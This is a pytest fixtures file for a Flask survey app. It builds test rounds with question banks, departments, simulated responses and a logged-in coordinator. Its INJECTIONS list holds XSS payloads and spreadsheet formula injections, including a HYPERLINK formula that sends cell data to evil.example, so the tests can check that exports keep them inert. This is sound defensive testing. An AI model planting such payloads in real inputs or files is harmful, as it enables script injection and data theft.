"""Fixtures for the results tests: rounds built directly from models with the real banks.

``build_round`` pins the newest version of real banks from ``questions/`` (the common bank plus
a few domain banks), adds departments and simulated submitted (and draft) responses with
importance ratings and comments, among them an injection corpus that must stay inert
everywhere: HTML, PDF, CSV, XLSX and JSON.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass, field

import pytest
from flask import Flask
from flask.testing import FlaskClient

from quickscan.bank import Bank, bank_content, content_hash
from quickscan.extensions import db
from quickscan.models import (
    RESPONSE_DRAFT,
    RESPONSE_SUBMITTED,
    Answer,
    Comment,
    Department,
    ImportanceRating,
    Response,
    Round,
    RoundBank,
    User,
    utcnow,
)
from quickscan.services.banks import catalog
from quickscan.services.tokens import hash_token, new_resume_token

#: Comments that try markup, script and formula injection; every output must show them inert.
INJECTIONS: tuple[str, ...] = (
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "<b>",
    "Tom & Jerry",
    '<font name="x">',
    "onafgesloten <i",
    '=HYPERLINK("http://evil.example/?q="&A1,"klik")',
    "+SUM(1;2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "\r=2+2",
    '<para><a href="javascript:alert(1)">link</a></para>',
)

VALUES = ("0", "1", "2", "3", "4", "dont_know", "not_applicable")


@dataclass
class BuiltRound:
    """A round built for a test, with the resume tokens of its responses."""

    round: Round
    banks: list[Bank]
    departments: list[Department]
    submitted_tokens: dict[str, list[str]] = field(default_factory=dict)
    draft_tokens: dict[str, list[str]] = field(default_factory=dict)


def real_banks(count: int = 3) -> list[Bank]:
    """The common bank plus up to ``count - 1`` other real banks (newest versions)."""
    cat = catalog()
    common = cat.common_bank()
    assert common is not None, "questions/ must hold a common bank"
    others = [b for b in cat.latest_banks() if not b.common][: count - 1]
    return [common] + others


def build_round(departments: Sequence[tuple[str, Sequence[str]]] | None = None, *,
                bank_count: int = 3, respondents: int = 3, drafts: int = 1, seed: int = 7,
                comments: Sequence[str] = INJECTIONS, name: str = "Voorjaar 2026",
                municipality: str = "Gemeente Örkelljunga-aan-Zee") -> BuiltRound:
    """Create a round with real pinned banks, departments and simulated responses."""
    cat = catalog()
    banks = real_banks(bank_count)
    round_ = Round(name=name, municipality=municipality, description="Testronde <b>&</b>",
                   status="open", target_overrides={})
    for position, bank in enumerate(banks):
        content = bank_content(cat.paths[bank.key])
        round_.banks.append(RoundBank(bank_id=bank.id, version=bank.version,
                                      sha256=content_hash(content), content=content,
                                      position=position))
    common = banks[0].id
    if departments is None:
        departments = [("Sociaal Domein", [common] + [b.id for b in banks[1:2]]),
                       ("Ruimte & Wonen", [common] + [b.id for b in banks[2:3]]),
                       ("Dienstverlening", [common])]
    built = BuiltRound(round_, banks, [])
    rng = random.Random(seed)
    comment_index = 0
    by_id = {bank.id: bank for bank in banks}
    for dept_name, bank_ids in departments:
        department = Department(name=dept_name, bank_ids=list(bank_ids))
        round_.departments.append(department)
        built.departments.append(department)
        built.submitted_tokens[dept_name] = []
        built.draft_tokens[dept_name] = []
        for index in range(respondents + drafts):
            submitted = index < respondents
            token = new_resume_token()
            response = Response(resume_token_hash=hash_token(token),
                                status=RESPONSE_SUBMITTED if submitted else RESPONSE_DRAFT,
                                submitted_at=utcnow() if submitted else None)
            department.responses.append(response)
            (built.submitted_tokens if submitted else built.draft_tokens)[dept_name].append(token)
            for bank_id in bank_ids:
                bank = by_id[bank_id]
                for theme in bank.themes:
                    response.importance_ratings.append(ImportanceRating(
                        bank_id=bank.id, theme_id=theme.id, value=rng.randint(1, 5)))
                    for question in theme.questions:
                        value = rng.choices(VALUES, weights=(1, 2, 3, 3, 1, 1, 0.5))[0]
                        response.answers.append(Answer(question_id=question.id, value=value))
                        if comments and rng.random() < 0.15:
                            response.comments.append(Comment(
                                question_id=question.id,
                                text=comments[comment_index % len(comments)]))
                            comment_index += 1
    db.session.add(round_)
    db.session.commit()
    # Make sure every injection appears at least once, on a submitted response.
    first = built.departments[0].responses[0]
    present = {c.text for d in built.departments for r in d.responses
               if r.status == RESPONSE_SUBMITTED for c in r.comments}
    used = {c.question_id for c in first.comments}
    free = [q.id for bank_id in built.departments[0].bank_ids for q in by_id[bank_id].questions
            if q.id not in used]
    for text in comments:
        if text not in present and free:
            first.comments.append(Comment(question_id=free.pop(0), text=text))
    db.session.commit()
    return built


@pytest.fixture
def built_round(app: Flask) -> BuiltRound:
    """A round of three departments with real banks, submitted and draft responses."""
    return build_round()


@pytest.fixture
def coordinator(app: Flask) -> User:
    """A coordinator account."""
    from quickscan.services.accounts import create_user

    return create_user("coordinator@example.org", "een-heel-lang-wachtwoord")


def login(client: FlaskClient, user: User) -> None:
    """Log the coordinator in for this client (through the session, like Flask-Login does)."""
    with client.session_transaction() as session:
        session["_user_id"] = user.get_id()
        session["_fresh"] = True


@pytest.fixture
def coordinator_client(client: FlaskClient, coordinator: User) -> FlaskClient:
    """A test client with a logged-in coordinator."""
    login(client, coordinator)
    return client
